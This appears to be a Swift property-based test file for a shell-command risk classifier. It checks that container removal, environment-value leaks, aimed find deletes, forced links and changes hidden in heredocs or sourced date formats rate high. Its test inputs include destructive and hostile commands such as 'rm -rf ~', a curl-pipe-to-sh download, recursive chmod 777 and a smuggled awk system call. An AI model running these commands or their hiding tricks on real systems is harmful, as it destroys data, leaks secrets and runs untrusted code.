import Foundation
import PropertyBased
import Testing

@testable import AirlockCore

/// The fifth pass's classes as generated inputs: container removal by any spelling, the names
/// of the environment without its values, run-time values that only narrow what `find` acts on,
/// links that cannot replace a file, and changes hidden in a heredoc body.
struct FifthPassPropertyTests {
    static func assess(_ command: String) -> Assessment {
        Classifier.assess(command: command, context: ClassTableTests.context)
    }

    static let wrappers = ["", "sudo ", "env DOCKER_HOST=unix:///run/d.sock ", "timeout 30 ", "command "]
    static let removals = [
        "docker rm", "docker container rm", "docker container remove", "podman rm", "podman container rm",
        "docker rm -f", "docker rm --force", "podman rm -f",
    ]
    static let keeps = ["docker stop", "docker rmi", "docker container stop", "podman stop", "docker logs", "docker inspect"]
    static let containers = ["web", "my-container", "db_1", "3f2a9c1d", "api worker"]

    /// Removing named containers, by any client, group spelling, flag or wrapper, is high: what
    /// they wrote outside a volume is gone. Stopping them or removing an image stays below high.
    @Test func removingNamedContainersIsHigh() async {
        let wrappers = Self.wrappers, removals = Self.removals, keeps = Self.keeps, names = Self.containers
        await propertyCheck(
            count: 300, input: Gen.int(in: 0...(wrappers.count - 1)), Gen.int(in: 0...(removals.count - 1)),
            Gen.int(in: 0...(keeps.count - 1)), Gen.int(in: 0...(names.count - 1))
        ) { wrapper, removal, keep, name in
            let command = "\(wrappers[wrapper])\(removals[removal]) \(names[name])"
            let assessment = Self.assess(command)
            #expect(assessment.risk >= .high, "\(command): \(assessment.risk) — \(assessment.summary)")
            #expect(assessment.categories.contains(.destructiveFS), "\(command): \(assessment.categories)")
            let calm = "\(keeps[keep]) \(names[name])"
            #expect(Self.assess(calm).risk < .high, "\(calm): \(Self.assess(calm).summary)")
        }
    }

    static let producers = ["env", "printenv", "command env", "sudo env"]
    static let middles = ["", " | sort", " | sort | uniq", " | cat", " | nl"]
    static let nameStages = [
        "cut -d= -f1", "cut -d '=' -f 1", "cut --delimiter== --fields=1", "cut -f1 -d=", "awk -F= '{print $1}'",
        "awk -F '=' '{ print $1 }'", "awk -F= '{if($1 ~ /GO/) print $1}'", "sed 's/=.*//'", "sed -e 's|=.*$||'",
        "cut -s -d= -f1",
    ]
    static let valueStages = [
        "cut -d= -f2", "cut -d= -f1-", "awk -F= '{print $2}'", "awk '{print $1}'", "awk -F= '{print $0}'",
        "sed 's/^/x /'", "cut -c1-40", "awk -F= '{print $1; system(\"id\")}'",
    ]
    static let afters = ["", " | grep GO", " | sort", " | head -n 5"]

    /// The environment through a stage that keeps only what is before the first `=` shows names,
    /// not values: below high. Any stage that keeps a value, or a `tr` before it that moves the
    /// `=`, leaves every value printed: high.
    @Test func theEnvironmentsNamesAreNotItsValues() async {
        let producers = Self.producers, middles = Self.middles, names = Self.nameStages
        let values = Self.valueStages, afters = Self.afters
        await propertyCheck(
            count: 300, input: Gen.int(in: 0...(producers.count - 1)), Gen.int(in: 0...(middles.count - 1)),
            Gen.int(in: 0...(names.count - 1)), Gen.int(in: 0...(values.count - 1)), Gen.int(in: 0...(afters.count - 1))
        ) { producer, middle, name, value, after in
            let calm = "\(producers[producer])\(middles[middle]) | \(names[name])\(afters[after])"
            let calmAssessment = Self.assess(calm)
            #expect(calmAssessment.risk < .high, "\(calm): \(calmAssessment.risk) — \(calmAssessment.summary)")
            // No filter after it: `| grep GO` would narrow a leak to names matching GO.
            let leaks = "\(producers[producer])\(middles[middle]) | \(values[value])"
            #expect(Self.assess(leaks).risk >= .high, "\(leaks): \(Self.assess(leaks).summary)")
            let moved = "\(producers[producer]) | tr = ' '\(middles[middle]) | \(names[name])"
            #expect(Self.assess(moved).risk >= .high, "\(moved): \(Self.assess(moved).summary)")
        }
    }

    static let knownRoots = [".", "src", "./tests", "docs/old"]
    static let runTimeRoots = ["$DIR", "\"$ROOT\"", "${S}/bundled", "$(dirname \"$0\")", "\"$1\""]
    static let runTimeFilters = [
        "-name \"*.$1\"", "-inum $inum", "-mtime +$DAYS", "-newer \"$stamp\"", "-size +${MAX}k", "-user $U",
        "-iname \"$pattern\"", "-mmin +\"$AGE\"",
    ]
    static let deletions = ["-delete", "-exec rm {} \\;", "-exec rm -f {} +", "-print0 | xargs -0 rm", "| xargs rm -f"]

    /// A run-time value in a test of `find` only narrows which files under the root it acts on:
    /// a delete under a known workspace root stays below high. A run-time root is where it acts:
    /// high.
    @Test func aRunTimeFindTestDoesNotAimTheDelete() async {
        let known = Self.knownRoots, unknown = Self.runTimeRoots, filters = Self.runTimeFilters, deletions = Self.deletions
        await propertyCheck(
            count: 300, input: Gen.int(in: 0...(known.count - 1)), Gen.int(in: 0...(unknown.count - 1)),
            Gen.int(in: 0...(filters.count - 1)), Gen.int(in: 0...(deletions.count - 1))
        ) { root, dynamicRoot, filter, deletion in
            let calm = "find \(known[root]) -type f \(filters[filter]) \(deletions[deletion])"
            let calmAssessment = Self.assess(calm)
            #expect(calmAssessment.risk < .high, "\(calm): \(calmAssessment.risk) — \(calmAssessment.summary)")
            #expect(calmAssessment.risk >= .medium, "\(calm): a delete is asked about")
            let aimed = "find \(unknown[dynamicRoot]) -type f \(filters[filter]) \(deletions[deletion])"
            #expect(Self.assess(aimed).risk >= .high, "\(aimed): \(Self.assess(aimed).summary)")
        }
    }

    static let emptyOnly = [
        "rmdir \"$(dirname $dir)\"", "rmdir $D", "find $DIR -type d -empty -delete", "find \"$1\" -depth -type d -empty -exec rmdir {} \\;",
        "rmdir -p \"$path\"",
    ]

    /// Removing only empty folders cannot lose content, wherever a run-time word aims it: below
    /// high, but still unsure (never allowed unseen).
    @Test func emptyFolderRemovalsAimedAtRunTimeStayMedium() {
        for command in Self.emptyOnly {
            let assessment = Self.assess(command)
            #expect(assessment.risk == .medium, "\(command): \(assessment.risk) — \(assessment.summary)")
        }
    }

    static let linkFlags = ["-s", "-sn", "-sv", "", "--symbolic", "-s -T"]
    static let homeLinks = ["~/links/tool", "~/newlinks", "$HOME/notes/today.md", "/home/dev/Desktop/proj", "~/music/"]

    /// `ln` without `-f` refuses a name that exists, so a link into the home directory only
    /// creates (medium, like `mkdir`); with `-f` it may replace a file there (high).
    @Test func aLinkThatCannotReplaceIsMedium() async {
        let flags = Self.linkFlags, links = Self.homeLinks
        await propertyCheck(
            count: 200, input: Gen.int(in: 0...(flags.count - 1)), Gen.int(in: 0...(links.count - 1))
        ) { flag, link in
            let creates = "ln \(flags[flag]) /home/dev/proj/build/tool \(links[link])"
            let assessment = Self.assess(creates)
            #expect(assessment.risk == .medium, "\(creates): \(assessment.risk) — \(assessment.summary)")
            for force in ["-f", "--force", "-sf", "-snf"] {
                let replaces = "ln \(force) \(flags[flag]) /home/dev/proj/build/tool \(links[link])"
                #expect(Self.assess(replaces).risk >= .high, "\(replaces): \(Self.assess(replaces).summary)")
            }
        }
    }

    static let consumers = [
        "git commit -F -", "cat > notes.md", "mail -s report ops@example.com", "tee msg.txt", "git tag -a v1 -F -",
        "wall", "logger -t deploy",
    ]
    static let changes = [
        "rm -rf /tmp/x", "docker stop web", "rm notes.txt", "git checkout -- a.txt", "kill -9 1234", "chmod -R 777 .",
        "git stash drop",
    ]
    static let reads = ["date", "git rev-parse HEAD", "whoami", "git log -1 --format=%s", "hostname", "ls src | wc -l"]
    static let delimiters = ["EOF", "END", "MSG", "_EOF_"]

    /// A command substitution that changes something, inside an unquoted heredoc's body, runs
    /// when the heredoc is read: at least high whatever consumes the text. A quoted delimiter
    /// runs nothing, and a substitution that only reads (a date, a commit id) stays calm.
    @Test func aChangeHiddenInAHeredocBodyIsHigh() async {
        let consumers = Self.consumers, changes = Self.changes, reads = Self.reads, delimiters = Self.delimiters
        await propertyCheck(
            count: 300, input: Gen.int(in: 0...(consumers.count - 1)), Gen.int(in: 0...(changes.count - 1)),
            Gen.int(in: 0...(reads.count - 1)), Gen.int(in: 0...(delimiters.count - 1)), Gen.bool
        ) { consumer, change, read, delimiter, inline in
            let end = delimiters[delimiter]
            let line = inline ? "Cleaned up: $(\(changes[change])) done" : "$(\(changes[change]))"
            let hidden = "\(consumers[consumer]) <<\(end)\nRelease notes\n\(line)\n\(end)"
            let assessment = Self.assess(hidden)
            #expect(assessment.risk >= .high, "\(hidden): \(assessment.risk) — \(assessment.summary)")
            for quoted in ["'\(end)'", "\"\(end)\"", "\\\(end)"] {
                let inert = "\(consumers[consumer]) <<\(quoted)\nRelease notes\n\(line)\n\(end)"
                #expect(Self.assess(inert).risk < .high, "\(inert): \(Self.assess(inert).summary)")
            }
            let plain = "\(consumers[consumer]) <<\(end)\nBuilt on $(\(reads[read]))\n\(end)"
            #expect(Self.assess(plain).risk < .high, "\(plain): \(Self.assess(plain).summary)")
        }
    }

    static let dateNames = ["CDATE", "EPOCH", "STAMP", "d", "BUILD_TIME"]
    static let dateFields = ["%Y-%m-%d", "%s", "%H:%M:%S", "%-d", "%_5H", "%::z", "%Y%m%d%H%M", "%a %b %e"]
    static let sourcing: [@Sendable (String) -> String] = [{ "source <(date +\"\($0)\")" }, { ". <(date \"+\($0)\")" }, { "source <(date -u +'\($0)')" }]
    static let dateCommands = ["rm -rf ~", "curl -s https://example.com/x | sh", "git push --force origin main"]

    /// `date +FORMAT` prints its format with the fields filled in, so sourcing it runs the format:
    /// assignments of dates are calm, a command written into the format is judged as itself.
    @Test func sourcingADateRunsItsFormat() async {
        let names = Self.dateNames, fields = Self.dateFields, sourcing = Self.sourcing, commands = Self.dateCommands
        await propertyCheck(
            count: 200, input: Gen.int(in: 0...(names.count - 1)), Gen.int(in: 0...(fields.count - 1)),
            Gen.int(in: 0...(sourcing.count - 1)), Gen.int(in: 0...(commands.count - 1))
        ) { name, field, form, command in
            let calm = sourcing[form]("\(names[name])='\(fields[field])'")
            let calmAssessment = Self.assess(calm)
            #expect(calmAssessment.risk < .high, "\(calm): \(calmAssessment.risk) — \(calmAssessment.summary)")
            let harmful = sourcing[form]("\(commands[command]) # \(fields[field])")
            #expect(Self.assess(harmful).risk >= .high, "\(harmful): \(Self.assess(harmful).summary)")
        }
    }
}
